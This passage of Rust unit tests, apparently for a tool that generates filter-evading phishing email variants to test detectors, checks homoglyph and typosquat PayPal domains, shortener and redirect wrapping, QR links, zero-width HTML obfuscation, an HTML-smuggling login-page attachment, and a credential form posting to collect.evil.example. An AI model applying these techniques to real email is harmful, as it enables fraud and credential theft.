            "{s}"
        );
        assert_eq!(parse(&out.bytes).subject(), Some("Invoice overdue"));
    }

    #[test]
    fn builtin_rewriter_paraphrases_and_keeps_placeholders() {
        let rw = BuiltinRewriter { seed: 1 };
        let input = "Dear customer, your ACCOUNT is suspended. Verify it immediately at [[LINK1]]. Click here: [[LINK2]]. We noticed unusual activity. Thank you.";
        let a = rw.rewrite(input).unwrap();
        assert_eq!(a, rw.rewrite(input).unwrap());
        assert_ne!(a, input);
        assert!(a.contains("[[LINK1]]") && a.contains("[[LINK2]]"), "{a}");
        assert!(
            !a.contains("Dear customer") || !a.contains("immediately"),
            "{a}"
        );
        // Capitalisation follows the original.
        assert!(!a.contains("ACCOUNT") || a.contains("ACCOUNT"));
        assert_eq!(match_case("ACCOUNT", "profile"), "PROFILE");
        assert_eq!(match_case("Verify", "confirm"), "Confirm");
        assert_eq!(match_case("verify", "confirm"), "confirm");
        // Sentences in the middle of a long paragraph trade places.
        let s = swap_sentences("One a. Two b. Three c. Four d.", &mut Rng::new(3));
        assert!(s.starts_with("One a. ") && s.ends_with("Four d."), "{s}");
        assert_ne!(s, "One a. Two b. Three c. Four d.");
    }

    #[test]
    fn rewrite_op_changes_text_and_keeps_links() {
        let out = run(MULTI, &[Op::Rewrite]);
        let msg = parse(&out.bytes);
        let html = html_of(&msg);
        let text = text_of(&msg);
        let hs = hrefs(&html);
        assert!(
            hs.contains(&LINK1.to_string()) && hs.contains(&LINK2.to_string()),
            "{html}"
        );
        assert!(html.contains(">Verify now</a>"), "{html}");
        assert!(text.contains(LINK1) && text.contains(LINK2), "{text}");
        assert!(!text.contains("[[LINK"), "{text}");
        let original =
            "We detected unusual activity on your account. Your account has been suspended.";
        assert!(!text.contains(original), "{text}");
        assert!(
            out.notes
                .iter()
                .any(|n| n.starts_with("rewrite: builtin rewrote")),
            "{:?}",
            out.notes
        );
        assert_eq!(msg.subject(), Some("Your account has been suspended"));
    }

    struct Fixed(&'static str);
    impl Rewriter for Fixed {
        fn name(&self) -> String {
            "fixed".into()
        }
        fn rewrite(&self, text: &str) -> Result<String, String> {
            if self.0 == "ERR" {
                return Err("boom".into());
            }
            assert!(text.len() <= MAX_REWRITE_BYTES);
            Ok(self.0.to_string())
        }
    }

    #[test]
    fn rewrite_appends_dropped_links_and_reports_errors() {
        let rw = Fixed("Please act now. Keep [[ link2 ]] in mind.");
        let ctx = MutateCtx::new(&rw, 1);
        let out = mutate(MULTI.as_bytes(), &[Op::Rewrite], &ctx).unwrap();
        let msg = parse(&out.bytes);
        let html = html_of(&msg);
        assert_eq!(hrefs(&html), vec![LINK2.to_string(), LINK1.to_string()]);
        let text = text_of(&msg);
        assert!(
            text.starts_with(
                "Please act now. Keep support.paypal.com <https://support.paypal.com/help>"
            ),
            "{text}"
        );
        assert!(
            text.trim_end().ends_with(&format!("Verify now <{LINK1}>")),
            "{text}"
        );
        assert!(
            out.notes
                .iter()
                .any(|n| n.contains("dropped 1 link placeholder")),
            "{:?}",
            out.notes
        );

        let rw = Fixed("ERR");
        let ctx = MutateCtx::new(&rw, 1);
        match mutate(MULTI.as_bytes(), &[Op::Rewrite], &ctx) {
            Err(MutateError::Rewriter(name, e)) => {
                assert_eq!((name.as_str(), e.as_str()), ("fixed", "boom"))
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn rewrite_text_only_message() {
        let out = run(TEXT_ONLY, &[Op::Rewrite]);
        let msg = parse(&out.bytes);
        assert!(text_of(&msg).contains(TEXT_LINK));
        assert_eq!(hrefs(&html_of(&msg)), vec![TEXT_LINK.to_string()]);
    }

    #[test]
    fn homoglyph_puts_punycode_in_hrefs_and_unicode_in_text() {
        let out = run(MULTI, &[Op::Homoglyph]);
        let msg = parse(&out.bytes);
        let html = html_of(&msg);
        let hs = hrefs(&html);
        assert_eq!(hs.len(), 2);
        for h in &hs {
            let host = host(h);
            let reg = host
                .trim_start_matches("www.")
                .trim_start_matches("support.");
            assert!(reg.starts_with("xn--") && reg.ends_with(".com"), "{h}");
            assert!(h.ends_with("/signin?country=US&locale=en") || h.ends_with("/help"));
        }
        // One look-alike domain for both links.
        assert_eq!(
            host(&hs[0]).trim_start_matches("www."),
            host(&hs[1]).trim_start_matches("support.")
        );
        let unicode = idna::domain_to_unicode(host(&hs[0]).trim_start_matches("www.")).0;
        assert_ne!(unicode, "paypal.com");
        assert!(
            unicode
                .chars()
                .any(|c| ('\u{400}'..='\u{4ff}').contains(&c))
        );
        assert!(html.contains(&format!("support.{unicode}</a>")), "{html}");
        let text = text_of(&msg);
        assert!(
            text.contains(&format!("https://www.{unicode}/signin")),
            "{text}"
        );
        assert!(
            out.notes[0].starts_with("homoglyph: paypal.com -> "),
            "{:?}",
            out.notes
        );
        assert!(out.notes[0].contains("(xn--"), "{:?}", out.notes);
    }

    #[test]
    fn homoglyph_labels() {
        let mut whole = 0;
        for seed in 0..40 {
            let mut rng = Rng::new(seed);
            let l = homoglyph_label("paypal", &mut rng).unwrap();
            assert_eq!(l.chars().count(), 6);
            assert_ne!(l, "paypal");
            if l.chars().all(|c| !c.is_ascii()) {
                whole += 1;
                assert_eq!(l, "\u{440}\u{430}\u{443}\u{440}\u{430}\u{4cf}");
            } else {
                let changed = l.chars().filter(|c| !c.is_ascii()).count();
                assert!((1..=2).contains(&changed), "{l}");
            }
            assert!(
                idna::domain_to_ascii(&format!("{l}.com"))
                    .unwrap()
                    .starts_with("xn--")
            );
        }
        assert!(whole > 5 && whole < 35, "{whole}");
        // Nothing to swap.
        assert!(homoglyph_label("bmw", &mut Rng::new(1)).is_none());
        assert!(homoglyph_label("xn--80ak6aa92e", &mut Rng::new(1)).is_some());
    }

    #[test]
    fn typosquat_changes_the_label_and_keeps_the_tld() {
        let out = run(MULTI, &[Op::Typosquat]);
        let msg = parse(&out.bytes);
        let hs = hrefs(&html_of(&msg));
        for h in &hs {
            let d = link_domain(h).unwrap();
            assert_eq!(d.suffix, "com");
            assert_ne!(d.label, "paypal");
            assert!(strsim_close(&d.label, "paypal"), "{}", d.label);
        }
        assert!(text_of(&msg).contains(&link_domain(&hs[0]).unwrap().registrable()));
        let mut rng = Rng::new(9);
        for label in ["microsoft", "google", "amazon", "wellsfargo", "ab"] {
            let t = typo_label(label, &mut rng).unwrap();
            assert_ne!(t, label);
            assert!(strsim_close(&t, label), "{label} -> {t}");
        }
    }

    /// Edit distance at most 2 (one typo, or rn/m, w/vv).
    fn strsim_close(a: &str, b: &str) -> bool {
        let a: Vec<char> = a.chars().collect();
        let b: Vec<char> = b.chars().collect();
        let mut prev: Vec<usize> = (0..=b.len()).collect();
        for i in 1..=a.len() {
            let mut cur = vec![i; b.len() + 1];
            for j in 1..=b.len() {
                let cost = usize::from(a[i - 1] != b[j - 1]);
                cur[j] = (prev[j] + 1).min(cur[j - 1] + 1).min(prev[j - 1] + cost);
            }
            prev = cur;
        }
        prev[b.len()] <= 2
    }

    #[test]
    fn shortener_moves_every_link_to_the_shortener() {
        let out = run(MULTI, &[Op::Shortener]);
        let msg = parse(&out.bytes);
        let html = html_of(&msg);
        let hs = hrefs(&html);
        assert_eq!(hs.len(), 2);
        assert_ne!(hs[0], hs[1]);
        for h in &hs {
            assert_eq!(host(h), "bit.ly");
            let code = h.trim_start_matches("https://bit.ly/");
            assert_eq!(code.len(), 7);
            assert!(code.bytes().all(|b| b.is_ascii_alphanumeric()));
        }
        let text = text_of(&msg);
        assert!(!text.contains("paypal.com/"), "{text}");
        assert_eq!(find_text_urls(&text).len(), 2);
        for r in find_text_urls(&text) {
            assert!(text[r].starts_with("https://bit.ly/"));
        }
        let mut rw = BuiltinRewriter { seed: 0 };
        rw.seed = 1;
        let mut ctx = MutateCtx::new(&rw, 42);
        ctx.shortener = "t.co".into();
        let out = mutate(MULTI.as_bytes(), &[Op::Shortener], &ctx).unwrap();
        assert!(
            hrefs(&html_of(&parse(&out.bytes)))
                .iter()
                .all(|h| h.starts_with("https://t.co/"))
        );
    }

    #[test]
    fn redirect_wraps_every_link() {
        let out = run(MULTI, &[Op::Redirect]);
        let msg = parse(&out.bytes);
        let hs = hrefs(&html_of(&msg));
        assert_eq!(
            hs[0],
            "https://www.google.com/url?q=https%3A%2F%2Fwww.paypal.com%2Fsignin%3Fcountry%3DUS%26locale%3Den"
        );
        assert_eq!(
            hs[1],
            "https://www.google.com/url?q=https%3A%2F%2Fsupport.paypal.com%2Fhelp"
        );
        assert!(
            text_of(&msg).contains("https://www.google.com/url?q=https%3A%2F%2Fwww.paypal.com")
        );
    }

    fn decode_qr(png: &[u8]) -> String {
        let img = image::load_from_memory_with_format(png, image::ImageFormat::Png)
            .unwrap()
            .to_luma8();
        let (w, h) = img.dimensions();
        let mut prepared =
            rqrr::PreparedImage::prepare_from_greyscale(w as usize, h as usize, |x, y| {
                img.get_pixel(x as u32, y as u32).0[0]
            });
        let grids = prepared.detect_grids();
        assert_eq!(grids.len(), 1);
        grids[0].decode().unwrap().1
    }

    fn qr_part<'a>(msg: &'a Message<'a>) -> (&'a [u8], String) {
        let part = msg
            .attachments()
            .find(|p| p.is_content_type("image", "png"))
            .expect("a PNG part");
        (part.contents(), part.content_id().unwrap().to_string())
    }

    #[test]
    fn qr_moves_the_link_into_a_decodable_image() {
        let out = run(MULTI, &[Op::Qr]);
        let msg = parse(&out.bytes);
        let (png, cid) = qr_part(&msg);
        assert_eq!(decode_qr(png), LINK1);
        let html = html_of(&msg);
        assert!(html.contains(&format!("src=\"cid:{cid}\"")), "{html}");
        assert!(hrefs(&html).is_empty(), "{html}");
        assert!(find_text_urls(&html).is_empty(), "{html}");
        let text = text_of(&msg);
        assert!(!text.contains("http"), "{text}");
        assert!(
            text.contains("Scan the QR code with your phone camera to continue."),
            "{text}"
        );
        assert!(
            out.notes[0].starts_with(&format!("qr: link {LINK1} moved into a ")),
            "{:?}",
            out.notes
        );
        assert!(out.notes[0].contains("PNG QR code"));
        let s = String::from_utf8_lossy(&out.bytes);
        assert!(s.contains("multipart/related"), "{s}");
    }

    #[test]
    fn qr_on_a_text_only_message_creates_html() {
        let out = run(TEXT_ONLY, &[Op::Qr]);
        let msg = parse(&out.bytes);
        let (png, _) = qr_part(&msg);
        assert_eq!(decode_qr(png), TEXT_LINK);
        let html = html_of(&msg);
        assert!(html.contains("<img src=\"cid:"), "{html}");
        assert!(!html.contains("http") && !text_of(&msg).contains("http"));
    }

    #[test]
    fn homoglyph_then_qr_encodes_the_lookalike() {
        let out = run(MULTI, &[Op::Homoglyph, Op::Qr]);
        let msg = parse(&out.bytes);
        let (png, _) = qr_part(&msg);
        let url = decode_qr(png);
        assert!(url.starts_with("https://www.xn--"), "{url}");
        assert!(url.ends_with("/signin?country=US&locale=en"));
        assert!(hrefs(&html_of(&msg)).is_empty());
        assert!(out.notes.iter().any(|n| n.starts_with("homoglyph:")));
        assert!(out.notes.iter().any(|n| n.starts_with("qr:")));
    }

    #[test]
    fn html_obfuscate_breaks_up_text_and_keeps_links() {
        let out = run(MULTI, &[Op::HtmlObfuscate]);
        let msg = parse(&out.bytes);
        let html = html_of(&msg);
        assert_eq!(hrefs(&html), vec![LINK1.to_string(), LINK2.to_string()]);
        assert!(html.chars().any(|c| ZERO_WIDTH.contains(&c)), "{html}");
        assert!(html.contains("&#x"), "{html}");
        assert!(html.contains("<span></span>"), "{html}");
        assert!(html.contains("display:none"), "{html}");
        assert!(!html.contains("unusual activity on your account"), "{html}");
        // The hidden filler is in the body, not the head.
        let body_at = html.find("<body>").unwrap();
        assert!(html.find("display:none").unwrap() > body_at);
        assert_eq!(msg.text_body_count(), 1); // mail-parser maps the HTML part
        assert!(text_of(&msg).is_empty());
        assert!(out.notes[0].contains("zero-width"), "{:?}", out.notes);

        let out = run(TEXT_ONLY, &[Op::HtmlObfuscate]);
        let msg = parse(&out.bytes);
        let html = html_of(&msg);
        assert_eq!(hrefs(&html), vec![TEXT_LINK.to_string()]);
        assert!(html.contains("display:none"));
    }

    #[test]
    fn smuggle_attaches_a_loader_and_drops_the_links() {
        let out = run(MULTI, &[Op::Smuggle]);
        let msg = parse(&out.bytes);
        let att = msg
            .attachments()
            .find(|p| {
                p.attachment_name()
                    .is_some_and(|n| n.starts_with("Document_") && n.ends_with(".html"))
            })
            .expect("smuggling attachment");
        let page = att.text_contents().unwrap();
        assert!(
            page.contains("atob(") && page.contains("new Blob("),
            "{page}"
        );
        assert!(page.contains("createObjectURL") && page.contains("msSaveOrOpenBlob"));
        assert!(!page.contains("paypal.com"));
        // The base64 payload is the login page posting to the link.
        let b64: String = page
            .split('"')
            .filter(|s| {
                s.len() > 20
                    && s.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(&b))
            })
            .collect();
        let inner = b64_decode(&b64);
        assert!(
            inner.contains("action=\"https://www.paypal.com/signin?country=US&amp;locale=en\""),
            "{inner}"
        );
        let html = html_of(&msg);
        assert!(
            hrefs(&html).is_empty() && find_text_urls(&html).is_empty(),
            "{html}"
        );
        assert!(html.contains("attached document"), "{html}");
        let text = text_of(&msg);
        assert!(
            !text.contains("http") && text.contains("attached document"),
            "{text}"
        );
    }

    fn b64_decode(s: &str) -> String {
        const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = Vec::new();
        let (mut acc, mut bits) = (0u32, 0);
        for c in s.bytes().filter(|&c| c != b'=') {
            acc = (acc << 6) | T.iter().position(|&t| t == c).unwrap() as u32;
            bits += 6;
            if bits >= 8 {
                bits -= 8;
                out.push((acc >> bits) as u8);
                acc &= (1 << bits) - 1;
            }
        }
        String::from_utf8(out).unwrap()
    }

    fn zip_part<'a>(msg: &'a Message<'a>) -> (&'a [u8], String) {
        let p = msg
            .attachments()
            .find(|p| p.attachment_name().is_some_and(|n| n.ends_with(".zip")))
            .expect("zip attachment");
        (p.contents(), p.attachment_name().unwrap().to_string())
    }

    #[test]
    fn zip_attaches_the_page_and_keeps_other_attachments() {
        let out = run(WITH_ATTACHMENT, &[Op::Zip]);
        let msg = parse(&out.bytes);
        assert_eq!(msg.attachment_count(), 2);
        assert!(
            msg.attachments()
                .any(|p| p.attachment_name() == Some("salary.pdf"))
        );
        let (bytes, name) = zip_part(&msg);
        let mut z = zip::ZipArchive::new(Cursor::new(bytes.to_vec())).unwrap();
        assert_eq!(z.len(), 1);
        let mut f = z.by_index(0).unwrap();
        assert!(!f.encrypted());
        assert_eq!(f.name(), name.replace(".zip", ".html"));
        let mut page = String::new();
        f.read_to_string(&mut page).unwrap();
        assert!(
            page.contains("action=\"https://corp-payroll.com/review\""),
            "{page}"
        );
        let text = text_of(&msg);
        assert!(!text.contains("http") && text.contains(&name), "{text}");
    }

    #[test]
    fn password_zip_is_encrypted_and_the_password_is_in_the_body() {
        let out = run(MULTI, &[Op::PasswordZip]);
        let msg = parse(&out.bytes);
        let (bytes, _) = zip_part(&msg);
        let text = text_of(&msg);
        let pw = text
            .split("Password: ")
            .nth(1)
            .map(|s| {
                s.chars()
                    .take_while(char::is_ascii_digit)
                    .collect::<String>()
            })
            .unwrap();
        assert_eq!(pw.len(), 4, "{text}");
        assert!(html_of(&msg).contains(&pw));
        let mut z = zip::ZipArchive::new(Cursor::new(bytes.to_vec())).unwrap();
        match z.by_index(0) {
            Err(zip::result::ZipError::UnsupportedArchive(m)) => {
                assert_eq!(m, zip::result::ZipError::PASSWORD_REQUIRED)
            }
            Err(e) => panic!("{e}"),
            Ok(_) => panic!("entry is not encrypted"),
        }
        let mut page = String::new();
        z.by_index_decrypt(0, pw.as_bytes())
            .unwrap()
            .read_to_string(&mut page)
            .unwrap();
        assert!(
            page.contains("https://www.paypal.com/signin?country=US&amp;locale=en"),
            "{page}"
        );
        let wrong = format!("{}", (pw.parse::<u32>().unwrap() + 1) % 10_000);
        let bad = z.by_index_decrypt(0, wrong.as_bytes()).and_then(|mut f| {
            let mut v = Vec::new();
            f.read_to_end(&mut v)?;
            Ok(v)
        });
        assert!(bad.is_err() || bad.unwrap() != page.as_bytes());
        assert!(!text.contains("http"));
    }

    #[test]
    fn display_name_impersonates_the_brand() {
        let out = run(MULTI, &[Op::DisplayName]);
        let msg = parse(&out.bytes);
        let from = msg.from().unwrap().first().unwrap();
        let name = from.name.as_deref().unwrap();
        assert!(name.starts_with("PayPal "), "{name}");
        assert_ne!(name, "PayPal Service");
        assert_eq!(
            from.address.as_deref(),
            Some("service@paypal-alerts.example")
        );
        assert!(
            out.notes[0].starts_with("display-name: From \"PayPal Service\""),
            "{:?}",
            out.notes
        );
        let s = String::from_utf8_lossy(&out.bytes);
        assert_eq!(s.matches("\r\nFrom: ").count(), 1, "{s}");

        let rw = BuiltinRewriter { seed: 0 };
        let names: HashSet<String> = (0..16)
            .map(|seed| {
                let mut ctx = MutateCtx::new(&rw, seed);
                ctx.brand = Some("Microsoft 365".into());
                let out = mutate(MULTI.as_bytes(), &[Op::DisplayName], &ctx).unwrap();
                let msg = parse(&out.bytes);
                msg.from()
                    .unwrap()
                    .first()
                    .unwrap()
                    .name
                    .as_deref()
                    .unwrap()
                    .to_string()
            })
            .collect();
        assert!(
            names.iter().all(|n| n.starts_with("Microsoft 365")),
            "{names:?}"
        );
        assert!(
            names.contains("Microsoft 365 <security@microsoft.com>"),
            "{names:?}"
        );
    }

    #[test]
    fn the_brand_is_the_one_the_message_names() {
        let raw = "From: \"PayPal\" <service@paypal-resolution.example>\r\n\
Subject: Your account has been limited\r\n\
Message-ID: <lim@paypal-resolution.example>\r\n\
Content-Type: text/html; charset=utf-8\r\n\
\r\n\
<html><body><p>Dear Customer, confirm your information at \
<a href=\"https://www.paypa1.com/signin\">www.paypal.com</a>.</p><p>PayPal</p></body></html>\r\n";
        let out = run(raw, &[Op::DisplayName, Op::LookalikeSender]);
        let msg = parse(&out.bytes);
        let from = msg.from().unwrap().first().unwrap();
        assert!(
            from.name.as_deref().unwrap().starts_with("PayPal "),
            "{from:?}"
        );
        let domain = from.address.as_deref().unwrap().rsplit_once('@').unwrap().1;
        assert!(
            domain.contains("paypal") || domain.contains("paypa1"),
            "{domain}"
        );

        // A brand from the command line cannot inject header lines.
        let rw = BuiltinRewriter { seed: 0 };
        let mut ctx = MutateCtx::new(&rw, 3);
        ctx.brand = Some("Evil\r\nBcc: victim@example.com".into());
        let out = mutate(
            raw.as_bytes(),
            &[Op::DisplayName, Op::LookalikeSender],
            &ctx,
        )
        .unwrap();
        let s = String::from_utf8_lossy(&out.bytes);
        assert!(!s.contains("\nBcc:"), "{s}");
        assert!(parse(&out.bytes).bcc().is_none());
    }

    #[test]
    fn lookalike_sender_uses_a_new_domain() {
        for seed in 0..8 {
            let out = run_seed(MULTI, &[Op::LookalikeSender], seed);
            let msg = parse(&out.bytes);
            let from = msg.from().unwrap().first().unwrap();
            let addr = from.address.as_deref().unwrap();
            let domain = addr.rsplit_once('@').unwrap().1;
            assert_ne!(domain, "paypal-alerts.example");
            assert_ne!(domain, "paypal.com");
            assert!(
                domain.contains("paypal") || domain.contains("paypa1"),
                "{domain}"
            );
            assert!(domain_parts(domain).is_some());
            assert_eq!(from.name.as_deref(), Some("PayPal Service"));
            let reply = msg.reply_to().unwrap().first().unwrap();
            assert!(
                reply
                    .address
                    .as_deref()
                    .unwrap()
                    .ends_with(&format!("@{domain}"))
            );
        }
        let out = run(TEXT_ONLY, &[Op::LookalikeSender]);
        let msg = parse(&out.bytes);
        let addr = msg
            .from()
            .unwrap()
            .first()
            .unwrap()
            .address
            .as_deref()
            .unwrap()
            .to_string();
        assert!(
            !addr.ends_with("@account-verify.com") && addr.contains("account-verify"),
            "{addr}"
        );
        assert!(msg.reply_to().is_none());
    }

    #[test]
    fn messages_without_links_are_left_alone_with_a_note() {
        for &op in &[
            Op::Homoglyph,
            Op::Typosquat,
            Op::Shortener,
            Op::Redirect,
            Op::Qr,
            Op::Smuggle,
            Op::Zip,
            Op::PasswordZip,
        ] {
            let out = run(NO_LINKS, &[op]);
            assert!(
                out.notes.iter().any(|n| n.contains("no link")),
                "{op}: {:?}",
                out.notes
            );
            assert_eq!(out.bytes, run(NO_LINKS, &[Op::Identity]).bytes, "{op}");
        }
        // The text operators still work.
        let out = run(NO_LINKS, &[Op::Rewrite, Op::DisplayName]);
        assert!(!text_of(&parse(&out.bytes)).contains("buy gift cards urgently"));
    }

    #[test]
    fn garbage_never_panics() {
        let inputs: Vec<Vec<u8>> = vec![
            garbage(),
            Vec::new(),
            b"\0\0\0\xff\xfe".to_vec(),
            b"From nobody\n".to_vec(),
            b"Subject: only a header".to_vec(),
            b"From: <>\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<a href=\"http://[::1]/\">x</a><a href='https://'>y</a><a href=https://a.b.c.d.example.co.uk/q?x=<>z</a><<<a <a href=\"".to_vec(),
            format!("Subject: t\r\n\r\n{}", "<a href=http://x.com>".repeat(200)).into_bytes(),
            format!("Subject: t\r\nContent-Type: text/html\r\n\r\n{}", "http://ex.com/".repeat(300)).into_bytes(),
        ];
        let rw = BuiltinRewriter { seed: 3 };
        let ctx = MutateCtx::new(&rw, 5);
        for raw in &inputs {
            for &op in std::iter::once(&Op::Identity).chain(Op::ALL) {
                match mutate(raw, &[op], &ctx) {
                    Ok(m) => {
                        assert!(MessageParser::default().parse(&m.bytes).is_some(), "{op}");
                    }
                    Err(MutateError::Unparseable) => {}
                    Err(e) => panic!("{op}: {e}"),
                }
            }
            let _ = mutate(raw, Op::ALL, &ctx);
        }
        assert!(matches!(
            mutate(&garbage(), &[Op::Identity], &ctx),
            Err(MutateError::Unparseable)
        ));
        assert!(matches!(
            mutate(b"", &[Op::Identity], &ctx),
            Err(MutateError::Unparseable)
        ));
    }

    const FORM: &str = "From: IT <it@helpdesk-mail.example>\r\n\
Subject: Session expired\r\n\
Message-ID: <f1@helpdesk-mail.example>\r\n\
Content-Type: text/html\r\n\
\r\n\
<html><body><p>Your session has expired. Sign in again.</p>\r\n\
<form action=\"https://collect.evil.example/owa/auth.php\" method=\"post\">\r\n\
<p>Email: <input type=\"email\" name=\"login\"></p><p>Password: <input type=\"password\" name=\"passwd\"></p>\r\n\
<p><input type=\"submit\" value=\"Log on\"></p></form><p>IT desk</p></body></html>\r\n";

    #[test]
    fn a_credential_form_counts_as_a_link() {
        let form_action = |html: &str| {
            tokenize(html)
                .into_iter()
                .find(|s| s.kind == SegKind::Tag && s.name == "form" && !s.closing)
                .and_then(|s| attr_value(&html[s.start..s.end], "action"))
        };
        let out = run(FORM, &[Op::Shortener]);
        let html = html_of(&parse(&out.bytes));
        assert!(
            form_action(&html).unwrap().starts_with("https://bit.ly/"),
            "{html}"
        );
        let out = run(FORM, &[Op::Homoglyph]);
        let html = html_of(&parse(&out.bytes));
        assert!(
            form_action(&html)
                .unwrap()
                .starts_with("https://collect.xn--"),
            "{html}"
        );

        let out = run(FORM, &[Op::Qr]);
        let msg = parse(&out.bytes);
        let html = html_of(&msg);
        assert!(
            form_action(&html).is_none() && !html.contains("<input"),
            "{html}"
        );
        assert!(html.contains("IT desk"), "{html}");
        assert_eq!(
            decode_qr(qr_part(&msg).0),
            "https://collect.evil.example/owa/auth.php"
        );

        let out = run(FORM, &[Op::Rewrite]);
        let msg = parse(&out.bytes);
        let html = html_of(&msg);
        assert!(html.contains(">Log on</a>"), "{html}");
        assert!(text_of(&msg).contains("Log on <https://collect.evil.example/owa/auth.php>"));
        assert!(!text_of(&msg).contains("Password:"));
    }

    #[test]
    fn large_and_hostile_input_stays_bounded() {
        let mut html = String::from("<html><body>");
        for i in 0..3000 {
            let _ = write!(
                html,
                "<p>Verify account {i} <a href=\"https://host{i}.example.com/p?i={i}\">click here</a> https://bare{i}.example.org/x</p>"
            );
        }
        html.push_str("https://paren.example/");
        html.push_str(&")".repeat(200_000));
        html.push_str(&"<b>".repeat(20_000));
        html.push_str("</body></html>");
        let raw =
            format!("From: a@b.example\r\nSubject: big\r\nContent-Type: text/html\r\n\r\n{html}");
        let t = Instant::now();
        for &op in Op::ALL {
            let out = run(&raw, &[op]);
            let msg = parse(&out.bytes);
            if matches!(op, Op::Homoglyph | Op::Shortener | Op::Redirect) {
                let hs = hrefs(&html_of(&msg));
                let changed = hs.iter().filter(|h| !h.contains("host")).count()
                    + hs.iter().filter(|h| h.contains("xn--")).count();
                assert!(changed <= MAX_LINKS, "{op}: {changed}");
                assert!(
                    out.notes.iter().any(|n| n.contains("left unchanged")),
                    "{op}"
                );
            }
        }
        assert!(t.elapsed() < Duration::from_secs(120), "{:?}", t.elapsed());
        let urls = find_text_urls("see https://x.example/a)))))) now");
        assert_eq!(urls, vec![4..23]);
    }

    #[test]
    fn every_op_gives_a_parseable_message_on_every_fixture() {
        for raw in [MULTI, TEXT_ONLY, WITH_ATTACHMENT, NO_LINKS] {
            for &op in Op::ALL {
                let out = run(raw, &[op]);
                let msg = parse(&out.bytes);
                assert!(msg.subject().is_some(), "{op}");
                assert!(msg.from().is_some(), "{op}");
                assert!(msg.message_id().is_some(), "{op}");
                assert!(!out.notes.is_empty(), "{op}");
            }
            let all = run(raw, Op::ALL);
            assert!(parse(&all.bytes).subject().is_some());
        }
    }

    #[test]
    fn same_seed_same_bytes() {
        for raw in [MULTI, TEXT_ONLY, WITH_ATTACHMENT] {
            for &op in std::iter::once(&Op::Identity).chain(Op::ALL) {
                let a = run_seed(raw, &[op], 99);
                let b = run_seed(raw, &[op], 99);
                assert_eq!(a.bytes, b.bytes, "{op}");
                assert_eq!(a.notes, b.notes, "{op}");
            }
        }
        let a = run_seed(MULTI, &[Op::Shortener], 1);
        let b = run_seed(MULTI, &[Op::Shortener], 2);
        assert_ne!(
            hrefs(&html_of(&parse(&a.bytes))),
            hrefs(&html_of(&parse(&b.bytes)))
        );
    }

    #[test]
    fn link_scanning_handles_quotes_entities_and_punctuation() {
        let html = "<A HREF = \"https://a.example/x?y=1&amp;z=2\">a</A><a title='x>y' href='http://b.example/'>b</a><a href=https://c.example/p>c</a><a href=\"mailto:x@y\">m</a><!-- <a href=\"http://hidden.example\"> --><script>var s='<a href=\"http://js.example\">';</script>";
        let hs = hrefs(html);
        assert_eq!(
            hs,
            vec![
                "https://a.example/x?y=1&z=2",
                "http://b.example/",
                "https://c.example/p",
                "mailto:x@y"
            ]
        );
        let t = "See (https://x.example/a_(b)) and https://y.example/q?a=1. Or <http://z.example/>, HTTPS://W.EXAMPLE!";
        let urls: Vec<&str> = find_text_urls(t).into_iter().map(|r| &t[r]).collect();
        assert_eq!(
            urls,
            vec![
                "https://x.example/a_(b)",
                "https://y.example/q?a=1",
                "http://z.example/",
                "HTTPS://W.EXAMPLE"
            ]
        );
        assert_eq!(
            decode_entities("a&amp;b&#x41;&#66;&bogus;&"),
            "a&bAB&bogus;&"
        );
        let d = domain_parts("Www.Example.co.uk").unwrap();
        assert_eq!(
            (d.prefix.as_str(), d.label.as_str(), d.suffix.as_str()),
            ("www.", "example", "co.uk")
        );
        assert!(domain_parts("192.168.0.1").is_none());
        assert_eq!(host("https://user:pw@Host.example:8443/x"), "Host.example");
    }

    #[test]
    fn checksums_and_encodings() {
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(base64(b""), "");
        assert_eq!(base64(b"f"), "Zg==");
        assert_eq!(base64(b"fo"), "Zm8=");
        assert_eq!(base64(b"foobar"), "Zm9vYmFy");
        assert_eq!(percent_encode("a b/c?d=é"), "a%20b%2Fc%3Fd%3D%C3%A9");
        assert_eq!(
            clean_chat_answer("<think>hmm</think>\n```text\nHello\n```"),
            "Hello"
        );
    }

    #[test]
    fn command_rewriter_runs_times_out_and_fails() {
        let rw = CommandRewriter {
            argv: vec!["tr".into(), "a-z".into(), "A-Z".into()],
            timeout: Duration::from_secs(10),
        };
        assert_eq!(
            rw.rewrite("pay now [[LINK1]]").unwrap(),
            "PAY NOW [[LINK1]]"
        );
        assert_eq!(rw.name(), "command:tr");
        let ctx = MutateCtx::new(&rw, 1);
        let out = mutate(MULTI.as_bytes(), &[Op::Rewrite], &ctx).unwrap();
        let msg = parse(&out.bytes);
        assert!(text_of(&msg).contains("WE DETECTED UNUSUAL ACTIVITY"));
        assert_eq!(
            hrefs(&html_of(&msg)),
            vec![LINK1.to_string(), LINK2.to_string()]
        );

        let slow = CommandRewriter {
            argv: vec!["sleep".into(), "5".into()],
            timeout: Duration::from_millis(300),
        };
        let t = Instant::now();
        let e = slow.rewrite("x").unwrap_err();
        assert!(
            t.elapsed() < Duration::from_millis(600),
            "{:?}",
            t.elapsed()
        );
        assert!(e.contains("timed out"), "{e}");

        let missing = CommandRewriter {
            argv: vec!["/nonexistent/rewriter-cmd".into()],
            timeout: Duration::from_secs(1),
        };
        assert!(missing.rewrite("x").unwrap_err().contains("cannot start"));
        let failing = CommandRewriter {
            argv: vec!["sh".into(), "-c".into(), "echo bad >&2; exit 3".into()],
            timeout: Duration::from_secs(5),
        };
        let e = failing.rewrite("x").unwrap_err();
        assert!(e.contains("bad"), "{e}");
        let empty = CommandRewriter {
            argv: vec!["true".into()],
            timeout: Duration::from_secs(5),
        };
        assert!(empty.rewrite("x").unwrap_err().contains("empty output"));
        let none = CommandRewriter {
            argv: vec![],
            timeout: Duration::from_secs(5),
        };
        assert!(none.rewrite("x").is_err());
    }

    /// A one-shot HTTP server: answers `status` and `body`, hands back the
    /// request it got.
    fn serve_once(status: u16, body: &'static str) -> (String, mpsc::Receiver<String>) {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            let (stream, _) = listener.accept().unwrap();
            stream
                .set_read_timeout(Some(Duration::from_secs(5)))
                .unwrap();
